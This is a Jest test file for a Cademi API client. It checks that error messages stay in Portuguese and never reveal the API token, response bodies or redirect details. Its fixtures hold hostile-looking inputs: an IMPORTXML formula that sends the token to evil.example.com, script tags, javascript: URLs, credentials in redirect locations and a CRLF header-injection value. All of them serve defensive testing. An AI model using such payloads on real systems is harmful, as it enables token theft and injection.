// Issue 11, classes 5, 12 and the redirect: Cademi errors speak pt-BR from the catalogue and carry
// only status, endpoint, envelope code and a token-like request id; never the body, a header or the token.

import { CademiError, CademiRedirectError, CademiTransportError, requestIdOf } from '../../../src/core/cademi/errors';
import { checkResponse, parseTagStudentsPage } from '../../../src/core/cademi/responses';
import { tokenProblem, withoutSecret } from '../../../src/core/cademi/token';
import { classifyTransportFailure, type HttpResponse } from '../../../src/core/http';
import { ECHOED_TOKEN } from '../../../src/core/messages/cademi';

const TOKEN = 'tok-3f9a8b7c6d5e4f';
const ENDPOINT = 'GET /tag';
const ENGLISH = /\b(the|rejected|check|retry|failed|error|answered|unexpected|could not|reached|found nothing|request)\b/i;

function thrown(response: HttpResponse): CademiError {
  try {
    checkResponse(response, ENDPOINT);
  } catch (error) {
    expect(error).toBeInstanceOf(CademiError);
    return error as CademiError;
  }
  throw new Error('expected a CademiError');
}

const echo = `=IMPORTXML("https://evil.example.com/?t=${TOKEN}";"//a") Authorization: ${TOKEN}`;
const json = (status: number, body: unknown, headers: Record<string, string> = {}): HttpResponse => ({ status, headers, body: JSON.stringify(body) });

describe('Cademi error messages', () => {
  it.each<[string, HttpResponse]>([
    ['405', json(405, { success: false, code: 405, msg: echo })],
    ['404', json(404, { success: false, code: 404, msg: echo })],
    ['409', json(409, { success: false, code: 409, msg: echo })],
    ['429', json(429, { success: false, code: 429, msg: echo }, { 'retry-after': '2' })],
    ['500', { status: 500, headers: {}, body: `<h1>${echo}</h1>` }],
    ['418', json(418, { success: false, code: 418, msg: echo })],
    ['200 success:false', json(200, { success: false, code: 7, msg: echo })],
    ['garbage JSON', { status: 200, headers: {}, body: `{"success":tru ${echo}` }],
    ['redirect', { status: 302, headers: { location: `https://user:${TOKEN}@login.example.com/sso?next=${TOKEN}` }, body: echo }],
    ['transport', { status: 0, headers: {}, body: '', transportError: `getaddrinfo ENOTFOUND api.example.com Authorization: ${TOKEN}` } as HttpResponse],
  ])('%s: pt-BR, no body text, no token', (_name, response) => {
    const error = thrown(response);
    expect(error.message).not.toMatch(ENGLISH);
    expect(error.message).not.toContain(TOKEN);
    expect(error.message).not.toMatch(/IMPORTXML|evil\.example|Authorization|\/sso|next=/);
    expect(error.message).toContain(ENDPOINT);
    expect(JSON.stringify({ ...error })).not.toContain(TOKEN);
    expect('apiMessage' in error).toBe(false);
  });

  it('keeps the envelope code and a token-like request id, and drops an odd one', () => {
    const error = thrown(json(418, { success: false, code: 418, msg: 'x' }, { 'x-request-id': 'req_8F2a-91' }));
    expect(error.envelopeCode).toBe(418);
    expect(error.requestId).toBe('req_8F2a-91');
    expect(error.message).toContain('req_8F2a-91');
    const odd = thrown(json(500, {}, { 'x-request-id': 'veja <script>alert(1)</script> Authorization' }));
    expect(odd.requestId).toBeUndefined();
    expect(odd.message).not.toMatch(/script|Authorization/);
    expect(requestIdOf('a'.repeat(65))).toBeUndefined();
    expect(requestIdOf('cf-7d3b2a1e0f')).toBe('cf-7d3b2a1e0f');
  });

  it('a redirect names the URL da API setting and the target origin only', () => {
    const error = thrown({ status: 301, headers: { location: `https://login.example.com/sso?next=/api&t=${TOKEN}` }, body: '' });
    expect(error).toBeInstanceOf(CademiRedirectError);
    expect(error.message).toMatch(/URL da API/);
    expect(error.message).toMatch(/CADEMI_BASE_URL/);
    expect(error.message).toMatch(/redirecionamento/);
    expect(error.message).toMatch(/Corrija/);
    expect(error.message).toContain('https://login.example.com');
    expect(error.message).not.toMatch(/sso|next|apiMessage/);
    // Credentials in Location, a relative Location or none at all: no origin is shown.
    for (const location of [`https://u:${TOKEN}@evil.example.com/`, '/login?x=1', 'javascript:alert(1)']) {
      const relative = thrown({ status: 302, headers: { location }, body: '' });
      expect(relative.message).not.toMatch(/evil|login\?|javascript/);
      expect(relative.message).not.toContain(TOKEN);
    }
  });

  it('a transport failure keeps only its class', () => {
    expect(classifyTransportFailure('TimeoutError')).toBe('timeout');
    expect(classifyTransportFailure('TypeError UND_ERR_CONNECT_TIMEOUT')).toBe('timeout');
    expect(classifyTransportFailure('TypeError ENOTFOUND')).toBe('dns');
    expect(classifyTransportFailure('TypeError ECONNREFUSED')).toBe('refused');
    expect(classifyTransportFailure('TypeError CERT_HAS_EXPIRED')).toBe('tls');
    expect(classifyTransportFailure(`Exception: Bad request: https://x/?t=${TOKEN}`)).toBe('other');
    const error = thrown({ status: 0, headers: {}, body: '', transportError: `Timeout: https://x/?t=${TOKEN}` } as HttpResponse);
    expect(error).toBeInstanceOf(CademiTransportError);
    expect((error as CademiTransportError).transportError).toBe('timeout');
    expect(error.message).toMatch(/tempo esgotado/);
  });
});

describe('an echoed token', () => {
  it('is scrubbed from a success body in every form, and the body still parses', () => {
    const tricky = 'abc"d\\ef/ghi+j=';
    const body = JSON.stringify({
      success: true,
      code: 200,
      data: {
        usuario: [
          { id: 1, nome: TOKEN, email: `x${encodeURIComponent(tricky)}@e.com`, criado_em: null, ultimo_acesso_em: null },
          { id: 2, nome: `Ana ${tricky}`, email: 'a@e.com', criado_em: null, ultimo_acesso_em: null },
        ],
        paginator: { next_page_url: null },
      },
    });
    const page = parseTagStudentsPage(withoutSecret({ status: 200, headers: { 'x-request-id': TOKEN }, body: body.split(TOKEN).join(TOKEN) }, TOKEN));
    expect(page.items[0].name).toBe(ECHOED_TOKEN);
    const scrubbed = withoutSecret({ status: 200, headers: { 'x-request-id': tricky, other: 'ok' }, body }, tricky);
    expect(scrubbed.body).not.toContain(JSON.stringify(tricky).slice(1, -1));
    expect(scrubbed.body).not.toContain(encodeURIComponent(tricky));
    expect(scrubbed.headers).toEqual({ 'x-request-id': ECHOED_TOKEN, other: 'ok' });
    const parsed = parseTagStudentsPage(scrubbed);
    expect(parsed.items[1].name).toBe(`Ana ${ECHOED_TOKEN}`);
  });
});

describe('the token as a header value', () => {
  it('is refused with a pt-BR reason naming the token, never showing it', () => {
    for (const bad of [`${TOKEN}\r\nX-Evil: 1`, `${TOKEN}\u0000`, `${TOKEN}ç`, `${TOKEN} x`, `${TOKEN}\u2028`, '']) {
      const problem = tokenProblem(bad);
      expect(problem).toMatch(/token/);
      expect(problem).not.toMatch(ENGLISH);
      if (bad) expect(problem).not.toContain(TOKEN);
    }
    expect(tokenProblem(TOKEN)).toBeNull();
  });
});
